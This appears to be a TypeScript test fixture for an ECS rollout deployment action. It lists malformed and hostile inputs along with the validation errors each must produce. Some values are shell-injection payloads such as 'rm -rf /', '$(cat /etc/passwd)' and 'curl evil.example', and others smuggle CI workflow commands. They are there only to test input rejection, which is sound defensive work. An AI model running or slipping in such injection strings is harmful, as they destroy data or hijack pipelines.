// The hostile-input sweep's cases: malformed and hostile values the unit tests of inputs do not already cover,
// and values that are well-formed but name things that do not exist or do not fit the service. Each names the
// input its error must name (`reason` is matched against the run's `reason` output).

export interface HostileCase {
  name: string
  inputs: Record<string, string>
  /** What the `reason` output must say: it names the input (or the missing resource). */
  reason: RegExp
}

/** Files the task-definition cases read, created by the test in a temporary directory. */
export const FILES: Record<string, string> = {
  'not-json.json': '{"family": "web", containerDefinitions: [}',
  'array.json': '[{"family": "web"}]',
  'empty.json': '',
  'no-family.json': JSON.stringify({ containerDefinitions: [{ name: 'app', image: 'nginx' }] }),
  'no-containers.json': JSON.stringify({ family: 'web' }),
  'containers-object.json': JSON.stringify({ family: 'web', containerDefinitions: { name: 'app' } }),
  'unnamed-container.json': JSON.stringify({ family: 'web', containerDefinitions: [{ image: 'nginx' }] }),
  'good.json': JSON.stringify({
    family: 'web',
    networkMode: 'awsvpc',
    requiresCompatibilities: ['FARGATE'],
    cpu: '256',
    memory: '512',
    containerDefinitions: [
      { name: 'app', image: 'nginx', essential: true, portMappings: [{ containerPort: 80 }] }
    ]
  })
}

const TG = 'arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup'
const LISTENER =
  'arn:aws:elasticloadbalancing:us-east-1:123456789012:listener/app/nope/0123456789abcdef/0123456789abcdef'
const ESC = '\u001b'

/** Cases; `DIR` in a value is replaced by the directory holding FILES, `TG_BLUE`/`TG_GREEN` by the scene's. */
export function hostileCases(): HostileCase[] {
  const deploy = (inputs: Record<string, string>, reason: RegExp): Omit<HostileCase, 'name'> => ({
    inputs: { command: 'deploy', service: 'web', 'task-definition': 'web:3', ...inputs },
    reason
  })
  const on = (
    command: string,
    inputs: Record<string, string>,
    reason: RegExp
  ): Omit<HostileCase, 'name'> => ({
    inputs: { command, service: 'web', ...inputs },
    reason
  })
  const cases: Record<string, Omit<HostileCase, 'name'>> = {
    // Numbers and durations
    'desired-count in scientific notation': on('plan', { 'desired-count': '1e3' }, /^desired-count: "1e3"/),
    'desired-count in hex': on('plan', { 'desired-count': '0x10' }, /^desired-count: "0x10"/),
    'poll-interval with two dots': deploy(
      { 'poll-interval': '1.5.5s' },
      /^poll-interval: "1\.5\.5s" is not a duration/
    ),
    'step-timeout in words': deploy(
      { 'step-timeout': '10mins' },
      /^step-timeout: "10mins" is not a duration/
    ),
    'timeout negative': deploy({ timeout: '-1h' }, /^timeout: "-1h" is not a duration/),
    'bake-time NaN': deploy({ 'bake-time': 'NaN' }, /^bake-time: "NaN" is not a duration/),
    'batch-interval infinite': deploy({ 'batch-interval': '∞' }, /^batch-interval: "∞" is not a duration/),
    'max-failed-tasks zero': deploy(
      { 'max-failed-tasks': '0' },
      /^max-failed-tasks: "0" is not a whole number/
    ),
    'max-failed-tasks too many': deploy({ 'max-failed-tasks': '5000' }, /^max-failed-tasks: "5000"/),
    'preview-desired-count zero': on(
      'preview',
      { 'task-definition': 'web:3', 'preview-desired-count': '0' },
      /^preview-desired-count: "0"/
    ),
    'takeover-after under a second': deploy(
      { 'takeover-after': '500ms' },
      /^takeover-after: "500ms" is too short/
    ),
    'hook-retry-interval in days': deploy(
      { 'hook-retry-interval': '2d' },
      /^hook-retry-interval: "2d" is not a duration/
    ),
    'canary-bake-time with an exponent': deploy(
      { strategy: 'canary', 'canary-bake-time': '1e3s' },
      /^canary-bake-time: "1e3s"/
    ),
    'max-surge fractional tasks': deploy({ 'max-surge': '1.5' }, /^max-surge: "1\.5" is not a task count/),
    'max-unavailable negative': deploy(
      { 'max-unavailable': '-1' },
      /^max-unavailable: "-1" is not a task count/
    ),
    'partition in words': deploy({ partition: 'half' }, /^partition: "half" is not a task count/),
    'batch-size over 100%': deploy({ 'batch-size': '200%' }, /^batch-size: "200%" is not a task count/),
    'timeout shorter than the bakes': deploy(
      { 'bake-time': '10m', timeout: '1m' },
      /^timeout: 1m is shorter than the plan's bakes/
    ),
    // Unknown words
    'command with a shell payload': {
      inputs: { command: 'deploy; rm -rf /' },
      reason: /^command: "deploy; rm -rf \/" is not one of/
    },
    'command in capitals with a typo': {
      inputs: { command: 'DEPLOYY' },
      reason: /^command: "DEPLOYY" is not one of/
    },
    'strategy misspelt': deploy({ strategy: 'canry' }, /^strategy: "canry" is not one of/),
    'on-cancel unknown': deploy(
      { 'on-cancel': 'ignore' },
      /^on-cancel: "ignore" is not one of: rollback, pause/
    ),
    'on-orphan unknown': deploy(
      { 'on-orphan': 'keep' },
      /^on-orphan: "keep" is not one of: resume, rollback/
    ),
    'traffic unknown': deploy({ traffic: 'both' }, /^traffic: "both" is not one of/),
    'takeover not a boolean': deploy({ takeover: 'yes' }, /^takeover: "yes" is not true or false/),
    'show-env-values not a boolean': on(
      'diff',
      { 'show-env-values': '1' },
      /^show-env-values: "1" is not true or false/
    ),
    'allow-fork not a boolean': deploy({ 'allow-fork': 'on' }, /^allow-fork: "on" is not true or false/),
    // Percentages
    'canary-percent negative': deploy(
      { strategy: 'canary', 'canary-percent': '-10' },
      /^canary-percent: "-10" is not a percentage/
    ),
    'step-percent just over 100': deploy(
      { strategy: 'linear', 'step-percent': '100.5' },
      /^step-percent: "100\.5" is not a percentage/
    ),
    'custom step of 0%': deploy({ strategy: 'custom', steps: '0, 100' }, /^steps: "0" is not a percentage/),
    'custom steps past 100%': deploy(
      { strategy: 'custom', steps: '10, 100, 200' },
      /^steps: "200" is not a percentage/
    ),
    // Conflicting options (an input the run does not use is a warning, not one of these: e2e/inputs-at-once)
    'promote-full with partition': on(
      'promote',
      { 'promote-full': 'true', partition: '2' },
      /^promote-full: and partition both/
    ),
    'blue-green with max-surge': deploy(
      { strategy: 'blue-green', traffic: 'weights', 'stable-scale': 'keep', 'max-surge': '1' },
      /^max-surge: limits extra tasks/
    ),
    // Task definition files
    'task definition file missing': deploy(
      { 'task-definition': 'DIR/missing.json' },
      /^task-definition: cannot read ".*missing\.json"/
    ),
    'task definition file not JSON': deploy(
      { 'task-definition': 'DIR/not-json.json' },
      /^task-definition: ".*not-json\.json" is not valid JSON/
    ),
    'task definition file empty': deploy(
      { 'task-definition': 'DIR/empty.json' },
      /^task-definition: ".*empty\.json" is not valid JSON/
    ),
    'task definition file a JSON array': deploy(
      { 'task-definition': 'DIR/array.json' },
      /^task-definition: ".*array\.json" does not hold a JSON object/
    ),
    'task definition file without family': deploy(
      { 'task-definition': 'DIR/no-family.json' },
      /^task-definition: ".*no-family\.json" has no "family"/
    ),
    'task definition file without containers': deploy(
      { 'task-definition': 'DIR/no-containers.json' },
      /^task-definition: ".*no-containers\.json" has no "containerDefinitions"/
    ),
    'task definition containers not a list': deploy(
      { 'task-definition': 'DIR/containers-object.json' },
      /^task-definition: .* has no "containerDefinitions" list/
    ),
    'task definition container without a name': deploy(
      { 'task-definition': 'DIR/unnamed-container.json' },
      /^task-definition: .* list of named containers/
    ),
    'container-image for a container the file lacks': deploy(
      { 'task-definition': 'DIR/good.json', 'container-image': 'sidecar=envoy:1' },
      /^container-image: names container "sidecar", which task definition "web" does not have/
    ),
    'task definition path that is a directory': deploy(
      { 'task-definition': 'DIR/.json' },
      /^task-definition: cannot read/
    ),
    // Things that do not exist, or do not fit the service
    'cluster that does not exist': deploy({ cluster: 'nowhere' }, /^cluster "nowhere" was not found/),
    'service that does not exist': deploy(
      { service: 'ghost' },
      /^service "ghost" was not found in cluster "prod"/
    ),
    'status of a service that does not exist': on(
      'status',
      { service: 'ghost' },
      /^service "ghost" was not found/
    ),
    'revision that does not exist': deploy(
      { 'task-definition': 'web:99' },
      /^task-definition: "web:99" was not found/
    ),
    'task definition ARN that does not exist': deploy(
      { 'task-definition': 'arn:aws:ecs:us-east-1:123456789012:task-definition/nope:1' },
      /^task-definition: ".*nope:1" was not found/
    ),
    'deregistered revision': deploy({ 'task-definition': 'web:2' }, /^task-definition: "web:2" is INACTIVE/),
    'alarm that does not exist': deploy(
      { alarms: 'web-5xx, web-latency' },
      /^alarms: alarm "web-latency" does not exist/
    ),
    'warning alarm that does not exist': deploy(
      { 'warning-alarms': 'web-p99' },
      /^warning-alarms: alarm "web-p99" does not exist/
    ),
    'alarm name with shell metacharacters': deploy(
      { alarms: 'web-5xx; rm -rf / && $(id)' },
      /^alarms: alarm "web-5xx; rm -rf \/ && \$\(id\)" does not exist/
    ),
    'rollback to a revision that does not exist': on(
      'rollback',
      { to: '99' },
      /^to: "99" names no task definition that exists/
    ),
    'diff from a revision that does not exist': on(
      'diff',
      { from: '99', to: '1' },
      /^from: "99" names no task definition that exists/
    ),
    'rollback to previous with no history': on('rollback', {}, /^to: "previous": no earlier version/),
    'promote with no rollout in progress': on(
      'promote',
      {},
      /there is no rollout in progress on web.*nothing to promote/
    ),
    'abort with no rollout in progress': on(
      'abort',
      {},
      /there is no rollout in progress on web.*nothing to abort/
    ),
    'weights through a listener that does not exist': deploy(
      {
        'task-definition': 'DIR/good.json',
        traffic: 'weights',
        'listener-arn': LISTENER,
        'target-groups': 'TG_BLUE,TG_GREEN'
      },
      /^listener-arn: ".*listener\/app\/nope\/.*" .*was not found \(ListenerNotFound/
    ),
    'weights across target groups the listener does not use': deploy(
      {
        traffic: 'weights',
        'listener-arn': 'LISTENER',
        'target-groups': `${TG}/nope-a/0123456789abcdef,${TG}/nope-b/fedcba9876543210`
      },
      /^target-groups: the route .* (also forwards to|forwards to neither)/
    ),
    'a CODE_DEPLOY service': deploy({ service: 'legacy-codedeploy' }, /CODE_DEPLOY deployment controller/),
    // Options that only task sets (the EXTERNAL controller) have, on a service with the ECS controller
    'partition on an ECS-controller service': deploy(
      { service: 'legacy-ecs', partition: '1' },
      /^partition: applies to task-set rollouts/
    ),
    'weights on an ECS-controller service': deploy(
      {
        service: 'legacy-ecs',
        traffic: 'weights',
        'listener-arn': 'LISTENER',
        'target-groups': 'TG_BLUE,TG_GREEN'
      },
      /^traffic: weights applies to task-set rollouts/
    ),
    'custom steps on an ECS-controller service': deploy(
      { service: 'legacy-ecs', strategy: 'custom', steps: '10, 30, 100' },
      /^steps: its shares \(10%, 30%, 100%\) are uneven, and service legacy-ecs uses the ECS deployment controller/
    ),
    'on-failure pause on an ECS-controller service': deploy(
      { service: 'legacy-ecs', 'on-failure': 'pause' },
      /^on-failure: pause cannot hold/
    ),
    'a linear step ECS cannot take': deploy(
      { service: 'legacy-ecs', strategy: 'linear', 'step-percent': '2' },
      /^step-percent: 2 is not a step/
    ),
    // Shell metacharacters, newlines, ANSI escapes, oversized values
    'service with command substitution': deploy(
      { service: '$(touch /tmp/ecs-rollout-pwned)' },
      /^service: "\$\(touch \/tmp\/ecs-rollout-pwned\)" is not a valid name/
    ),
    'service with backticks': deploy({ service: '`id`' }, /^service: "`id`" is not a valid name/),
    'cluster with &&': deploy(
      { cluster: 'prod && curl evil.example' },
      /^cluster: "prod && curl evil\.example" is not a valid name/
    ),
    'task definition path with a command': deploy(
      { 'task-definition': '$(cat /etc/passwd).json' },
      /^task-definition: cannot read "\$\(cat \/etc\/passwd\)\.json"/
    ),
    'task definition with an ANSI escape': deploy(
      { 'task-definition': `${ESC}[2Jweb:1` },
      /^task-definition: "\\u001b\[2Jweb:1" is not a task definition/
    ),
    'cluster with a carriage return': deploy(
      { cluster: 'prod\r::set-output name=status::succeeded' },
      /^cluster: "prod\\r::set-output/
    ),
    'alarm with a bell': deploy({ alarms: 'web\u0007' }, /^alarms: "web\\u0007" is not an alarm name/),
    'steps smuggling a workflow command': deploy(
      { strategy: 'custom', steps: '10\n::stop-commands::x' },
      /^steps: .*stop-commands.* is not (a percentage|PERCENT)/
    ),
    'max-surge smuggling add-mask': deploy(
      { 'max-surge': '50%\n::add-mask::x' },
      /^max-surge: "50%\\n::add-mask::x" is not a task count/
    ),
    'rollback to a ref with a payload': on(
      'rollback',
      { to: 'previous; rm -rf /' },
      /^to: "previous; rm -rf \/" is not previous/
    ),
    'hook with an unterminated quote': deploy(
      { 'hook-post-deploy': 'sh -c "echo' },
      /^hook-post-deploy: .*quote that is never closed/
    ),
    'service name too long': deploy(
      { service: 'w'.repeat(300) },
      /^service: "w{80}…" \(300 characters\) is not a valid name/
    ),
    'container-image oversized': deploy(
      { 'container-image': `app=${'x'.repeat(70_000)}` },
      /^container-image: ".*" \(70004 characters\) is too long/
    ),
    // The token's value is never shown, not even its first characters.
    'github-token oversized': deploy(
      { 'github-token': 'g'.repeat(65_537) },
      /^github-token: \(65537 characters, not shown\) is too long/
    )
  }
  return Object.entries(cases).map(([name, c]) => ({ name, ...c }))
}
